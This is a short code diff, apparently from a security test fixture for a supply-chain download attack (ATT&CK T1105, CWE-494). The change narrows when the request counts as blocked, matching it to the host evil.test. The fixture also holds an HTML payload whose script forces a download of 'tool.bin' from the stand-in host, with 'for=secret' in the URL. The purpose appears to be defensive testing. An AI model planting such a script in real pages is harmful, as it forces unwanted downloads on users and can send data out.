@@ -13,7 +13,7 @@ ATTACK = {
     "risk": "supply-chain",
     "references": ["ATT&CK T1105", "CWE-494"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/bytes/*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<h1>Update</h1><script>const link = document.createElement('a'); link.download = "
     "'tool.bin'; link.href = 'http://evil.test/bytes/2000?for=secret'; "
     "document.body.append(link); link.click()</script>",
